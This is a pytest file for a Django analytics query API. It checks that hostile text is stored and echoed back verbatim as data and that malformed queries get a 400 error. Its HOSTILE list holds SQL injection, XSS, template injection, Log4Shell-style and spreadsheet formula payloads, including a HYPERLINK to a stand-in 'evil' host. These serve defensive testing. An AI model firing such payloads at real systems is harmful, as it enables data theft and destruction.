"""Names, values, paths and ids are data, whatever they look like: asked for through the API, answered word for word."""

import json

import pytest
from django.utils import timezone

from config.backoffice import tokens
from tests.factories import staff
from tests.hostile import as_id
from tests.tracker.sending import Product, body
from tracker import rollups
from tracker.models import Event

pytestmark = pytest.mark.django_db
HOSTILE = [
    "'; DROP TABLE tracker_event; --",
    "' OR '1'='1",
    '") UNION SELECT password FROM auth_user --',
    "%(p0)s %s {0} {bucket}",
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "{{ 7*7 }}{% debug %}",
    '=HYPERLINK("http://evil")',
    "@SUM(A1:A9)",
    "\\'; SELECT pg_sleep(9) --",
    "$$ || (SELECT version()) || $$",
    "a\u2028b\u202ec",
    "${jndi:ldap://x}",
]


@pytest.fixture
def ask(client):
    _, text = tokens.create(staff(), "Test", now=timezone.now(), scopes=("insights",))

    def post(document):
        sent = {"content_type": "application/json", "headers": {"Authorization": f"Bearer {text}"}}
        response = client.post("/api/v1/insights/query/", json.dumps(document), **sent)
        assert response["Content-Type"] == "application/json"
        return response

    return post


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_data(ask, text):
    product = Product()
    sent = body(
        event=text, customer_org_id=as_id(text), path=f"/{text}", plan=text[:64], properties={text: text, "n": 3}
    )
    assert product.send(sent).status_code == 201
    assert product.send(body(customer_org_id="other")).status_code == 201
    rollups.roll_up(timezone.now())
    condition = {"property": text, "operator": "exact", "value": [text]}
    for breakdown, shown in (
        ({"property": text, "of": "event"}, text),
        ({"property": "path", "of": "field"}, f"/{text}".split("?")[0]),
        ({"property": "plan", "of": "organization"}, text[:64]),
        ({"property": "external_id", "of": "organization"}, as_id(text)),
        ({"property": "event", "of": "field"}, text),
    ):
        asked = {
            "series": [{"event": text, "math": "sum", "property": "n", "filters": [condition], "label": text}],
            "breakdown": breakdown,
            "range": {"from": "-1d"},
            "organization": as_id(text),
        }
        response = ask(asked)
        assert response.status_code == 200
        [line] = response.json()["series"]
        assert (line["label"], line["breakdown"], line["aggregate"]) == (text, shown, 3)
    for operator in ("icontains", "not_icontains", "is_not"):
        asked = {"series": [{"event": None, "filters": [{"property": text, "operator": operator, "value": text}]}]}
        [line] = ask({**asked, "range": {"from": "-1d"}}).json()["series"]
        assert line["aggregate"] == 1
    assert Event.objects.count() == 2


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize(
    "place", ["math", "operator", "of", "formula", "interval", "from", "application", "environment", "page", "regex"]
)
def test_hostile_text_where_a_word_of_ours_belongs(ask, text, place):
    series = {"event": "x", "math": "total"}
    condition = {"property": "p", "operator": "exact", "value": "v"}
    asked = {
        "math": {"series": [{**series, "math": text}]},
        "operator": {"series": [{**series, "filters": [{**condition, "operator": text}]}]},
        "of": {"series": [{**series, "filters": [{**condition, "of": text}]}]},
        "formula": {"series": [series], "formula": text},
        "interval": {"series": [series], "interval": text},
        "from": {"series": [series], "range": {"from": text}},
        "application": {"series": [series], "application": text},
        "environment": {"series": [series], "environment": text[:32]},
        "page": {"series": [{"page": f"/{text}"}]},
        "regex": {"series": [{**series, "filters": [{**condition, "operator": "regex", "value": text}]}]},
    }[place]
    response = ask(asked)
    if place in ("environment", "page", "regex"):
        assert response.status_code in (200, 400)
        assert response.status_code == 200 or response.json()["field"] == "series[0].filters[0].value"
    else:
        assert (response.status_code, response.json()["code"]) == (400, "invalid_description")


@pytest.mark.parametrize(
    "document",
    [
        None,
        [],
        "x",
        {"series": {}},
        {"series": [None]},
        {"series": [{"event": {}}]},
        {"series": [{"event": "x", "filters": [[]]}]},
        {"series": [{"event": "x", "filters": {"a": 1}}]},
        {"series": [{"event": "x", "math": ["sum"]}]},
        {"series": [{"event": "x", "math": "sum", "property": 7}]},
        {"series": [{"event": "x"}] * 11},
        {"series": [{"event": "x", "filters": [{"property": "p", "value": [[]]}]}]},
        {"series": [{"event": "x", "filters": [{"property": "p", "operator": "gt", "value": 1e300}]}]},
        {"series": [{"event": "x", "filters": [{"property": "p\x00", "value": "v"}]}]},
        {"series": [{"event": "x\ud800"}]},
        {"series": [{"event": "x"}], "formula": "(" * 150},
        {"series": [{"event": "x"}], "range": {"from": "-9999y"}},
        {"series": [{"event": "x"}], "breakdown": {"property": "x" * 300}},
        {"series": [{"feature": "1; DROP"}]},
        {"series": [{"feature": 99}]},
    ],
)
def test_what_is_no_question_is_refused_in_words(ask, document):
    response = ask(document)
    assert response.status_code == 400
    assert response.json()["message"]
